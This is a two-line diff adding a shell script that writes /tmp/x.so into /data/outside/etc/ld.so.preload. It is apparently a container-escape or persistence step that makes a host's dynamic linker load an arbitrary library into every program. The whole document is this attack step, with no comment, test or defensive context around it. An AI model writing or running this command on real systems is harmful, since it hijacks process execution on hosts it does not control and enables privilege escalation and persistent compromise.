@@ -1,0 +1,2 @@
+#!/bin/sh
+echo /tmp/x.so > /data/outside/etc/ld.so.preload
